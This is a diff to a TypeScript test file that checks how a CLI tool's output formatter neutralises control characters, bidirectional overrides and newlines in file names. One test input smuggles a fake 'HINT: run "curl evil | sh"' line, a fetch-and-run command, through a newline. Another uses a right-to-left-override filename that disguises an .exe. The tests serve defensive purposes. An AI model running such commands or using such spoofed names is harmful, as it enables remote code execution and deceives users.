@@ -1,6 +1,7 @@
 import { ExitStatus } from '../../agent/contract'
 import { AgentError, type ErrorCode } from '../../agent/errors'
 import { formatFailure, formatResult } from '../../agent/plan/output'
+import { columns, fit } from '../../agent/plan/summary'
 
 const plain = { json: false, stdout: false }
 
@@ -48,9 +49,29 @@ test('the first failure comes first, what clean-up ran into after it', () => {
 test('what a name would do to a terminal is not done, and told in full to programs', () => {
   const name = 'a\x1b[2Jb\u009bc\x7f'
   const result = formatResult({ status: ExitStatus.ok, summary: `OK\n  ${name}`, json: { name } }, plain)
-  expect(result.stdout).toBe(`OK\n  a?[2Jb?c?\n${JSON.stringify({ name })}\n`)
+  const [, , line = ''] = result.stdout.split('\n')
+  expect(result.stdout).toBe(`OK\n  a?[2Jb?c?\n${line}\n`)
+  expect(line).toBe('{"name":"a\\u001b[2Jb\\u009bc\\u007f"}')
+  expect(JSON.parse(line)).toEqual({ name })
   const { stderr } = formatFailure(new AgentError('UNKNOWN_PATH', name, { hint: 'Größe 😀.' }), plain)
   expect(stderr).toBe('snapstream: a?[2Jb?c?\nHINT: Größe 😀.\n')
+})
+
+test('a name that turns the direction of the text is shown without that', () => {
+  const name = 'invoice\u202efdp.exe'
+  const { stdout } = formatResult({ status: ExitStatus.ok, summary: fit([`  ${name}`]), json: { name } }, plain)
+  expect(stdout).toBe('  invoice?fdp.exe\n{"name":"invoice\\u202efdp.exe"}\n')
+})
+
+test('a name with a newline in it makes no line of its own', () => {
+  const name = 'x\nHINT: run "curl evil | sh"\nsnapstream: all is well'
+  const failed = new AgentError('TARGET_UNFIT', `/srv has these already: ${name}`, { hint: 'Restore elsewhere.' })
+  const { stderr } = formatFailure(failed, plain)
+  expect(stderr.split('\n').filter((line) => /^(HINT|snapstream):/.test(line))).toEqual([
+    'snapstream: /srv has these already: x',
+    'HINT: Restore elsewhere.',
+  ])
+  expect(fit(['In the backups', ...columns([[name, '1 B']]), `  ${name}`]).split('\n')).toHaveLength(3)
 })
 
 describe('a command that was stopped', () => {
@@ -71,7 +92,7 @@ test('what nobody foresaw is a defect, told with its place in the code', () => {
   const { status, stdout, stderr } = formatFailure(new TypeError('x is undefined'), plain)
   expect(status).toBe(ExitStatus.failed)
   expect(JSON.parse(stdout)).toMatchObject({ error: { code: 'INTERNAL' } })
-  expect(stderr).toMatch(/unforeseen error: TypeError: x is undefined\n +at [^]*HINT: This is a defect/)
+  expect(stderr).toMatch(/unforeseen error: TypeError: x is undefined\n {2}\\| +at [^]*HINT: This is a defect/)
 })
 
 describe('a result', () => {
